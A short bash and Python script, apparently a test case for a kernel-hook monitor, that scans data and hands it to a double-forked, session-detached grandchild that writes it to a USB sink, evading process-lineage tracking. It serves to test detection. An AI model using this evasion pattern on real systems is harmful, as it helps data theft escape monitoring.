#!/usr/bin/env bash
# technique: the reader forks twice and leaves its session, the grandchild writes what it inherited in memory
# hooks: task_alloc, file_open
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.3)
        keep(data)
    os._exit(0)
PY
sleep 1
